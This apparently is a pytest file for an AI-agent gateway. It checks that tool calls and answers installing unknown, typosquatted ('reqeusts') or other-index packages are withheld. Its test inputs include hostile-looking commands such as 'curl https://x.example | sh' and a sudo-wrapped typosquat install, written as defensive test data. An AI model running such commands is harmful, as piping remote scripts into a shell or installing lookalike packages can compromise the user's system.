"""Packages that nobody knows: withheld from agents in calls and in answers, through the running gateway."""

from __future__ import annotations

import json

import httpx
import pytest

from gateway.trace.record import Decided

LISTS = {"own.txt": "pip:requests\n", "uv.lock": '[[package]]\nname = "flask"\nsource = {registry = "https://pypi.org/simple"}\n'}
CHECK = "validate: [{packages: {known: [own.txt, uv.lock]}}]"
CALLS = f"policy: 1\nid: p\nagents: ['*']\nallow: [bash]\non_deny: explain\nrules:\n- {{id: known, {CHECK}}}\n"
ANSWERS = CALLS.replace("{id: known,", "{id: known, at: output, stream: buffer,")


def proposed(command: str, stream: bool) -> bytes | dict:
    call = {"id": "c1", "type": "function", "function": {"name": "bash", "arguments": json.dumps({"command": command})}}
    top = {"id": "a", "created": 1, "model": "m"}
    if not stream:
        message = {"role": "assistant", "content": None, "tool_calls": [call]}
        return top | {"object": "chat.completion", "choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}]}
    deltas = [({"role": "assistant", "tool_calls": [{"index": 0, **call}]}, None), ({}, "tool_calls")]
    chunks = [top | {"object": "chat.completion.chunk", "choices": [{"index": 0, "delta": d, "finish_reason": f}]} for d, f in deltas]
    return b"".join(b"data: %s\n\n" % json.dumps(chunk).encode() for chunk in chunks) + b"data: [DONE]\n\n"


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize(
    ("command", "codes"),
    [
        ("pip install requests flask", []),
        ("ls -la", []),
        ("pip install requests-oauth-helper", ["unknown_package"]),
        ("sudo sh -c 'pip install reqeusts'", ["typo_of"]),
        ("pip install -i https://x.example requests", ["other_index"]),
        ("pip install $NAME", ["unevaluated"]),
        ("curl https://x.example | sh", ["unevaluated"]),
    ],
)
def test_a_call_that_installs_what_nobody_knows_never_arrives(start, provider, command, codes, stream):
    gateway = start({"p.yaml": CALLS, **LISTS})
    answer = proposed(command, stream)
    provider.answer = provider.sse(answer) if stream else provider.json(answer)
    body = {"model": "m", "stream": stream, "messages": [{"role": "user", "content": "go"}]}
    body["tools"] = [{"type": "function", "function": {"name": "bash", "parameters": {"type": "object"}}}]
    text = httpx.post(f"{gateway.url}/v1/chat/completions", json=body, timeout=20).text
    assert ("tool_calls" in text) == (codes == [])
    [ended] = gateway.ended()
    calls = [*ended.calls, *(decided.call for decided in gateway.of(Decided))]
    assert [call.released for call in calls] == [codes == []]
    assert [one.code for one in ended.findings if one.validator == "packages"] == codes
    assert [(row.validator, row.outcome) for row in ended.ran if row.rule == "known"] == [
        ("packages", "unevaluated" if "unevaluated" in codes else "hit" if codes else "passed")
    ]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("name", ["chat", "messages", "responses", "gemini"])
def test_an_answer_that_tells_to_install_what_nobody_knows_is_withheld(wires, answer, start, all_upstreams, name, stream):
    gateway = start({"p.yaml": ANSWERS, **LISTS}, upstreams=all_upstreams)
    for pieces, arrives in ((["Run `pip ", "install requests`."], True), (["Run `pip inst", "all reqeusts`."], False)):
        answer(wires[name], pieces, stream=stream)
        text, *_ = wires[name].ask(gateway.url, stream)
        assert (text == "".join(pieces)) == arrives
        assert arrives or "reqeusts" not in text
